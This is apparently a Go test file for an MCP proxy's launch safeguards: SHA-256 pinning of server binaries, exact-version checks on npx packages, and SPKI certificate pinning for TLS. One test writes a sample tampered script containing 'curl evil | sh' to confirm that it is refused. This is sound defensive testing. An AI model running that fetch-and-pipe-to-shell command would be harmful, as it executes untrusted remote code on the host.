package mcpproxy

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestCheckExecutable(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	bin := filepath.Join(dir, "server")
	os.WriteFile(bin, []byte("#!/bin/sh\necho hi\n"), 0o755)
	sum := sha256.Sum256([]byte("#!/bin/sh\necho hi\n"))
	if _, err := CheckExecutable(bin, hex.EncodeToString(sum[:])); err != nil {
		t.Fatalf("pinned binary refused: %v", err)
	}
	os.WriteFile(bin, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755)
	if _, err := CheckExecutable(bin, hex.EncodeToString(sum[:])); !errors.Is(err, ErrLaunchRefused) {
		t.Fatalf("replaced binary accepted: %v", err)
	}
	if _, err := CheckExecutable(filepath.Join(dir, "missing"), ""); !errors.Is(err, ErrLaunchRefused) {
		t.Fatalf("missing binary: %v", err)
	}
}

func TestCheckPackagePinned(t *testing.T) {
	t.Parallel()
	for args, ok := range map[string]bool{
		"-y @modelcontextprotocol/server-filesystem@2026.8.31 /srv": true,
		"-y @modelcontextprotocol/server-filesystem@latest /srv":    false,
		"-y @modelcontextprotocol/server-filesystem /srv":           false,
		"-y some-server@^1.2.0":                                     false,
		"some-server@1.2.3-beta.1":                                  true,
	} {
		err := CheckPackagePinned("npx", strings.Fields(args))
		if (err == nil) != ok {
			t.Errorf("npx %s: %v", args, err)
		}
	}
	if err := CheckPackagePinned("/usr/bin/node", []string{"server.js"}); err != nil {
		t.Errorf("not a package runner: %v", err)
	}
}

func TestSPKIPin(t *testing.T) {
	t.Parallel()
	srv := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.Write([]byte("ok")) }))
	defer srv.Close()
	pin := base64.StdEncoding.EncodeToString(SPKIHash(srv.Certificate()))
	get := func(pin string) error {
		tc, err := SPKIPinnedTLS(pin)
		if err != nil {
			return err
		}
		tc.RootCAs = srv.Client().Transport.(*http.Transport).TLSClientConfig.RootCAs
		c := &http.Client{Transport: &http.Transport{TLSClientConfig: tc}}
		resp, err := c.Get(srv.URL)
		if err == nil {
			resp.Body.Close()
		}
		return err
	}
	if err := get(pin); err != nil {
		t.Fatalf("matching pin refused: %v", err)
	}
	other := sha256.Sum256([]byte("another key"))
	if err := get(base64.StdEncoding.EncodeToString(other[:])); err == nil {
		t.Fatal("a server with another key was accepted")
	}
	if _, err := SPKIPinnedTLS("not-base64!"); err == nil {
		t.Fatal("malformed pin accepted")
	}
}
